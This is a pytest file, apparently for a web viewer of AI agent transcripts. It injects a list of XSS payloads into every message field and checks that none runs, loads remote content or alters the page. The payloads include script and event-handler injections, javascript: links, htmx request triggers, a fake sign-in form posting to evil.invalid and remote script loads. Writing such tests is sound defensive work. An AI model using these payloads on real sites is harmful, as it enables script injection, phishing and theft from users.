"""Model output that wants to act: in every place where a message can carry text, on every page that shows it."""

import base64

import pytest

pytestmark = pytest.mark.once
PAYLOADS = (
    "<script>window.hacked = 1; alert(1)</script>",
    "<img src=x onerror='window.hacked = 1; alert(1)'>",
    "<svg onload='window.hacked = 1'><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<iframe src='http://evil.invalid/frame'></iframe><object data='http://evil.invalid/o'></object><embed src='//evil.invalid/e'>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/refresh'>",
    "<base href='http://evil.invalid/'><link rel=stylesheet href='http://evil.invalid/s.css'>",
    "<style>body { display: none } @import 'http://evil.invalid/i.css'; * { background: url(http://evil.invalid/b) }</style>",
    "<div style='position:fixed;inset:0;z-index:99;background:red'>Session expired, sign in</div>",
    "<form action='http://evil.invalid/login' method=post><input name=password autofocus><button>Sign in</button></form>",
    "<div hx-get='/healthz?stolen' hx-trigger='load'></div>",
    "<div data-hx-get='/healthz?stolen' data-hx-trigger='load'></div>",
    "<div hx-post='/import/' hx-trigger='load' hx-target='body' hx-swap='outerHTML'></div>",
    "<div hx-on:click='alert(1)' hx-on::load='alert(1)' hx-trigger='every 1s' hx-get='/healthz?stolen'></div>",
    "<div hx-boost='true'><a href='/healthz?stolen'>x</a></div><hx-partial hx-target='#main'>gone</hx-partial>",
    "<div ws-connect='ws://evil.invalid/' hx-ext='ws'></div><div sse-connect='http://evil.invalid/'></div>",
    "<a href='javascript:window.hacked=1'>x</a><a href=\"&#106;avascript:alert(1)\">y</a>",
    "[click](javascript:window.hacked=1) [click](JaVaScRiPt:alert(1)) [click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <data:text/html,x>",
    "![pixel](http://evil.invalid/pixel.png) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](x\" onerror=\"alert(1)) [x](http://a.invalid\" onmouseover=\"alert(1) \"t\")",
    "```html onload=alert(1) class=top\n<script>window.hacked = 1</script>\n```",
    "```\"><script>window.hacked = 1</script>\nx\n```",
    "```js\n</code></pre><script>window.hacked = 1</script>\n```",
    "[x]: http://evil.invalid/r 'title\" onclick=\"alert(1)'\n\n[x]",
    "<img name=cookie id=toasts><form id=main name=body><input name=attributes></form>",
    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
    "</span></pre></div></article></main><h1>Trusted headline</h1><script>window.hacked = 1</script>",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x1b]52;c;ZXZpbA==\x07 \x1b[31m<script>window.hacked = 1</script>\x1b[0m",
    "{{ settings.SECRET_KEY }} {% debug %} {% load static %} ${alert(1)} <%= 1 %>",
    "‮evil‬ \u2066\u2069 \x00 \x85 \ud800 <b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><video src=http://evil.invalid/v autoplay onerror=alert(1)>",
    "<custom-element is='undo-toast' onclick=alert(1)></custom-element><transcript-stream data-target='0'></transcript-stream>",
    "-->'\"><body onload=alert(1)><script src=http://evil.invalid/x.js></script><!--",
)  # fmt: skip


def said(text, role="assistant"):
    return {"role": role, "content": text}


def called(text, number, *, name="Bash", arguments=None, result="ok"):
    call = {"id": f"c{number}", "name": name, "args": arguments or {"command": text, "description": text}}
    return [
        {"role": "assistant", "content": "", "tool_calls": [call]},
        {"role": "tool", "tool_call_id": f"c{number}", "content": result},
    ]


def line(*blocks, role="assistant", **more):
    return {"type": role, "message": {"role": role, "content": list(blocks)}, **more}


def _flat(lists):
    return [message for messages in lists for message in messages]


PLACES = {
    "prompts": lambda texts: [said(text, "user") for text in texts],
    "answers": lambda texts: [said(text) for text in texts],
    "thinking": lambda texts: [line({"type": "thinking", "thinking": text}) for text in texts],
    "system prompts": lambda texts: [said(text, "system") for text in texts],
    "commands": lambda texts: _flat(called(text, n) for n, text in enumerate(texts)),
    "outputs": lambda texts: _flat(called("ls", n, result=f"Exit code 1\n{text}") for n, text in enumerate(texts)),
    "tool names": lambda texts: _flat(called("", n, name=text, arguments={text: [text]}) for n, text in enumerate(texts)),
    "edits": lambda texts: _flat(
        called("", n, name="Edit", arguments={"file_path": text, "old_string": f"a {text}", "new_string": f"b {text}"})
        for n, text in enumerate(texts)
    ),
    "tasks": lambda texts: _flat(
        called("", n, name="TodoWrite", arguments={"todos": [{"content": text, "status": text}]}) for n, text in enumerate(texts)
    ),
    "sub-agents": lambda texts: _flat(
        called("", n, name="Task", arguments={"description": text, "prompt": text}, result=text) for n, text in enumerate(texts)
    ),
    "files": lambda texts: _flat(
        called("", n, name="Write", arguments={"file_path": f"{text}.py", "content": text}) for n, text in enumerate(texts)
    ),
    "notices": lambda texts: [{"type": "summary", "summary": text, "leafUuid": text} for text in texts],
    "unknown shapes": lambda texts: [{"kind": text, text: {text: [text]}} for text in texts],
    "unreadable lines": lambda texts: [
        {"forklore:unreadable": {"line": n, "why": text, "text": text}} for n, text in enumerate(texts)
    ],
    "pictures": lambda texts: [
        line(
            {"type": "image", "source": {"type": "base64", "media_type": text, "data": base64.b64encode(text.encode("utf-8", "replace")).decode()}},
            {"type": "image", "source": {"type": "url", "url": f"http://evil.invalid/{text}"}},
            role="user",
        )
        for text in texts
    ],
    "models and times": lambda texts: [
        {**line({"type": "text", "text": "x"}), "timestamp": text, "message": {"role": "assistant", "model": text, "content": text}}
        for text in texts
    ],
}  # fmt: skip
CHROME = "document.querySelector('.top').outerHTML + document.querySelector('.actions').textContent"
ALLOWED = set(
    "a b blockquote br code del em h1 h2 h3 h4 h5 h6 hr li mark ol p pre s small span strong table tbody td th thead tr ul".split()
)


@pytest.fixture
def watched(desktop):
    """A page of which dialogs and requests are written down."""
    desktop.requests, desktop.dialogs = [], []
    desktop.on("request", lambda request: desktop.requests.append(request.url))
    desktop.on("dialog", lambda dialog: (desktop.dialogs.append(dialog.message), dialog.dismiss()))
    return desktop


def shows_no_harm(page):
    """What is true of the page whatever the text in it wanted."""
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    page.mouse.wheel(0, 3000)
    page.wait_for_timeout(150)  # milliseconds, for what would start by itself
    assert page.dialogs == []
    assert page.evaluate("window.hacked") is None
    assert [url for url in page.requests if "stolen" in url or "evil" in url.partition("?")[0]] == []
    assert (
        page.evaluate(
            "document.querySelectorAll('iframe, object, embed, base, video, math, [onerror], [onload], [style]').length"
        )
        == 0
    )
    within = "[...document.querySelectorAll('[hx-ignore] *')]"
    assert set(page.evaluate(f"{within}.map((each) => each.localName)")) <= {
        *ALLOWED,
        "pre",
        "dl",
        "dt",
        "dd",
        "div",
        "i",
        "ins",
    }
    names = set(page.evaluate(f"{within}.flatMap((each) => each.getAttributeNames())"))
    assert names <= {
        "href",
        "title",
        "rel",
        "class",
        "start",
        "tabindex",
        "data-line",
        "data-current",
        "role",
        "aria-label",
    }
    assert set(page.evaluate(f"{within}.map((each) => each.protocol).filter(Boolean)")) <= {
        "http:",
        "https:",
        "mailto:",
    }
    assert page.evaluate("document.querySelectorAll('#main, #toasts').length") == 2


class HostileText:
    @pytest.mark.parametrize("place", PLACES)
    def test_does_nothing_in(self, site, watched, place):
        plain = site.store.create("plain", PLACES[place](["hello"]))
        hostile = site.store.create("plain", PLACES[place](PAYLOADS))
        watched.goto(f"/sessions/{plain.id}/")
        chrome = watched.evaluate(CHROME).replace(str(plain.id), "ID")

        for address in (
            f"/sessions/{hostile.id}/",
            f"/sessions/{hostile.id}/?from=60",
            f"/sessions/{hostile.id}/m/5/?q=<",
        ):
            watched.goto(address)
            shows_no_harm(watched)
            assert watched.evaluate(CHROME).replace(str(hostile.id), "ID") == chrome

    def test_does_nothing_in_titles_and_projects(self, site, watched):
        for text in PAYLOADS:
            project = "".join(letter for letter in text if letter.isprintable())[:200]
            session = site.store.create(project, [said(text, "user"), said(text)])
            if session.title != "new session":
                site.store.rename(session.id, session.title)
        for address in (
            "/",
            "/projects/",
            f"/sessions/{session.id}/",
            f"/sessions/{session.id.hex[:6]}/",
            "/search/?q=alert",
        ):
            watched.goto(address)
            shows_no_harm(watched)

    def test_does_nothing_when_all_of_an_output_is_asked_for(self, site, watched):
        session = site.store.create("plain", called("ls", 1, result="\n".join([*PAYLOADS, *PAYLOADS])))
        watched.goto(f"/sessions/{session.id}/m/1/")
        watched.get_by_role("link", name="Show all").click()
        watched.get_by_text("undo-toast").last.wait_for()
        shows_no_harm(watched)

    @pytest.mark.parametrize("kind", ["json", "text", "markdown"])
    def test_does_nothing_in_the_raw_view(self, site, watched, kind):
        session = site.store.create("plain", [said("\n".join(PAYLOADS))])
        answer = watched.goto(f"/sessions/{session.id}/m/0/raw/?as={kind}")
        assert answer.headers["content-type"] == "text/plain; charset=utf-8"
        assert watched.evaluate("document.body.children.length") == 1
        assert watched.dialogs == []

    def test_never_leaves_its_box(self, site, watched):
        session = site.store.create(
            "plain", [said("W" * 5000), said("a " * 20 + "x" * 900), said("| " + "w" * 900 + " |\n|-|\n| 1 |")]
        )
        watched.goto(f"/sessions/{session.id}/")
        assert watched.evaluate("document.documentElement.scrollWidth <= innerWidth")

    def test_would_stay_in_its_box_whatever_its_style(self, site, watched):
        """What lays itself over the page: no style comes through, and if one did the box would hold it."""
        session = site.store.create("plain", [said("plain words"), said("```\ncode\n```")])
        watched.goto(f"/sessions/{session.id}/")
        held = watched.evaluate(
            """() => [...document.querySelectorAll(".prose")].map((box) => {
                const over = document.createElement("b");
                over.style.cssText = "position: fixed; top: -500px; left: -500px; width: 5000px; height: 5000px";
                box.append(over);
                const rect = box.getBoundingClientRect();
                const at = document.elementsFromPoint(Math.max(rect.left - 5, 0), Math.max(rect.top - 5, 0));
                over.remove();
                return !at.includes(over);
            })"""
        )
        assert len(held) >= 2
        assert all(held)
